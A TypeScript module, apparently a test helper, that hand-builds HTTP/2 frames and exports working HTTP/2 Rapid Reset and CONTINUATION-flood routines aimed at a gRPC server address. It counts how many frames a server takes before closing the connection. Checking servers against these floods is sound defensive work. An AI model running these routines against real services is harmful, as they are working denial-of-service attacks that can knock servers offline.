import { once } from 'node:events';
import { connect, type Socket } from 'node:net';
import { setImmediate as turn } from 'node:timers/promises';

/** Frames of HTTP/2 that no client library sends. */

const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', 'latin1');
const [HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION] = [0x1, 0x3, 0x4, 0x6, 0x9];
const [ACK, END_HEADERS] = [0x1, 0x4];
const CANCEL = 8;
const PING_BYTES = 8;
const HEAD_BYTES = 9;
/** The first bits of a header whose name is in the static table of HPACK, or is told after it. */
const [METHOD_POST, SCHEME_HTTP, AUTHORITY, PATH, NEW_NAME] = [0x83, 0x86, 0x01, 0x04, 0x00];

function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(HEAD_BYTES);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

/** A text of less than 127 bytes, as HPACK has it without compression. */
const text = (value: string): Buffer => Buffer.from(`${String.fromCharCode(value.length)}${value}`, 'latin1');

const header = (name: string, value: string): Buffer =>
  Buffer.concat([Buffer.from([NEW_NAME]), text(name), text(value)]);

/** The headers of a call of gRPC, in one piece. */
const callOf = (path: string): Buffer =>
  Buffer.concat([
    Buffer.from([METHOD_POST, SCHEME_HTTP, AUTHORITY]),
    text('localhost'),
    Buffer.from([PATH]),
    text(path),
    header('content-type', 'application/grpc'),
    header('te', 'trailers'),
  ]);

/** Says that HTTP/2 is spoken. */
const BEGINNING = Buffer.concat([PREFACE, frame(SETTINGS, 0, 0, Buffer.alloc(0))]);
const LARGEST = 16_384;

/** All of a call but its headers, of which 16 KiB are announced. */
export const BEGUN_CALL = Buffer.concat([
  BEGINNING,
  frame(HEADERS, END_HEADERS, 1, Buffer.alloc(LARGEST)),
]).subarray(0, BEGINNING.length + HEAD_BYTES);

/** Connects to `host:port` and says that HTTP/2 is spoken. What is answered is not kept. */
async function begin(address: string): Promise<{ socket: Socket; closed: Promise<void> }> {
  const { hostname, port } = new URL(`http://${address}`);
  const socket = connect(Number(port), hostname);
  socket.on('error', () => undefined);
  await once(socket, 'connect');
  socket.write(BEGINNING);
  return { socket, closed: new Promise((resolve) => socket.once('close', () => resolve())) };
}

const BATCH = 100;

/**
 * Begins calls and cancels each at once, a hundred at a time; the next hundred follow when the server has read these. Returns how
 * many were sent when the server closed the connection, or `most` where it did not.
 */
export async function rapidReset(address: string, path: string, most: number): Promise<number> {
  const { socket, closed } = await begin(address);
  const begun = callOf(path);
  const cancelled = Buffer.alloc(4);
  cancelled.writeUInt32BE(CANCEL);
  let sent = 0;
  for (; sent < most && !socket.destroyed; sent += BATCH) {
    const frames = Array.from({ length: BATCH }, (_, nth) => {
      const stream = 2 * (sent + nth) + 1;
      return [frame(HEADERS, END_HEADERS, stream, begun), frame(RST_STREAM, 0, stream, cancelled)];
    });
    socket.write(Buffer.concat([...frames.flat(), frame(PING, 0, 0, Buffer.alloc(PING_BYTES))]));
    await Promise.race([pong(socket), closed]);
  }
  socket.destroy();
  return sent;
}

const PONG = frame(PING, ACK, 0, Buffer.alloc(PING_BYTES));

/** Resolves once the server has answered a ping: by then it has read all that was sent before. */
function pong(socket: Socket): Promise<void> {
  return new Promise((resolve) => {
    let got = Buffer.alloc(0);
    const read = (chunk: Buffer): void => {
      got = Buffer.concat([got, chunk]);
      if (!got.includes(PONG)) return;
      socket.off('data', read);
      resolve();
    };
    socket.on('data', read);
  });
}

/**
 * Begins a call whose headers never end. Returns how many frames went out when the server closed the connection, or `most` where it
 * did not: then the server has read all but what fits into the buffers of the connection.
 */
export async function floodContinuations(address: string, path: string, most: number): Promise<number> {
  const { socket, closed } = await begin(address);
  socket.resume();
  socket.write(frame(HEADERS, 0, 1, callOf(path)));
  const frames = Array.from({ length: BATCH }, (_, nth) =>
    frame(CONTINUATION, 0, 1, header(`x-${nth}`, 'y'.repeat(20))),
  );
  let sent = 0;
  for (; sent < most && !socket.destroyed; sent += BATCH) {
    if (socket.write(Buffer.concat(frames))) await turn();
    else await Promise.race([new Promise<void>((resolve) => socket.once('drain', resolve)), closed]);
  }
  socket.destroy();
  return sent;
}
